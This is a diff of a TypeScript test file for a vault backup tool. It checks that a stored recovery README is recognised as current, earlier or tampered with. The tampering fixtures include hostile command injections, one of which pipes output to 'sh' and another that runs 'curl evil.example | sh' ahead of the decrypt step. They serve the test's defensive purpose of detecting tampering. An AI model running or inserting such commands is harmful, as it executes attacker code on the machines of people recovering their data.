@@ -1,33 +1,12 @@
+import { readFileSync } from "node:fs";
 import { describe, expect, it } from "vitest";
-import { parseSigners, publicKeyPem } from "../../../engine/crypto/keys.ts";
-import type { GenesisEntry } from "../../../engine/vault/log-entry.ts";
-import { recoveryReadme } from "../../../engine/vault/recovery-readme.ts";
-import { otherKeys, sampleKeys, sampleVault } from "../../support/sealed-vault.ts";
-
-const signers = parseSigners(sampleKeys.signer).map(({ signer }) => signer);
-const genesis: GenesisEntry = {
-  type: "azdo-vault/log/v1",
-  vault: sampleVault,
-  seq: 0,
-  prev: null,
-  void: [],
-  at: "2026-11-22T18:05:44Z",
-  srv: "2026-11-22T18:05:44Z",
-  by: { tool: "0.1.0", build: "Backup_1", run: "20261122T180544Z-7f3a9c1e" },
-  kind: "genesis",
-  genesis: {
-    format: 1,
-    minReader: 1,
-    organization: { id: "0f3a7a1e-3d0e-4b1c-9f57-6a9e54b5d1a3", url: "https://dev.azure.com/fabrikam" },
-    project: { id: sampleVault },
-    recipients: [sampleKeys.recoveryRecipient, otherKeys.recoveryRecipient],
-    catalogue: sampleKeys.catalogueRecipient,
-    signers: [
-      { pub: signers[0]!, may: ["snapshot", "incident", "verification"] },
-      { pub: signers[1]!, may: ["retire", "keys"] },
-    ],
-  },
-};
+import { publicKeyPem } from "../../../engine/crypto/keys.ts";
+import { utf8 } from "../../../engine/foundation/bytes.ts";
+import { readmeName } from "../../../engine/vault/layout.ts";
+import { recoveryReadme, storedReadme } from "../../../engine/vault/recovery-readme.ts";
+import { memoryStore } from "../../support/memory-store.ts";
+import { cryptography, sampleVault } from "../../support/sealed-vault.ts";
+import { readmeGenesis as genesis, signers } from "./readme-genesis.ts";
 
 /** What it makes on a real vault is shown by tests/integration/hand-recovery.test.ts. */
 describe("README.txt", () => {
@@ -53,5 +32,35 @@ describe("README.txt", () => {
 
     expect(page).toContain("organisation 0f3a7a1e");
     expect(page).not.toContain(`project ${project!.id}`);
+  });
+});
+
+describe("a stored README.txt", () => {
+  const ours = recoveryReadme({ vault: sampleVault, genesis });
+  const stateOf = async (text: string | Uint8Array): Promise<string> => {
+    const store = memoryStore();
+    store.objects.set(readmeName(sampleVault), typeof text === "string" ? utf8(text) : text);
+    return (await storedReadme({ store, cryptography }, { vault: sampleVault, genesis })).state;
+  };
+
+  it("is told from one that somebody has put in its place", async () => {
+    expect(await stateOf(ours)).toBe("current");
+    expect(await stateOf(ours.replace("gunzip > index.ndjson", "gunzip | tee index.ndjson | sh"))).toBe("other");
+    expect(await stateOf(ours.replaceAll(signers[0]!, signers[1]!))).toBe("other");
+    expect(await stateOf(new Uint8Array(1 << 20))).toBe("other");
+  });
+
+  it("may be of a version before this one", async () => {
+    const earlier = readFileSync("tests/format/readme/1.0.0.txt", "utf8");
+
+    expect(await stateOf(earlier)).toBe("earlier");
+    expect(await stateOf(earlier.replace("age --decrypt", "curl evil.example | sh; age --decrypt"))).toBe("other");
+  });
+
+  it("may be missing", async () => {
+    expect(await storedReadme({ store: memoryStore(), cryptography }, { vault: sampleVault, genesis })).toEqual({
+      state: "missing",
+      sha256: undefined,
+    });
   });
 });
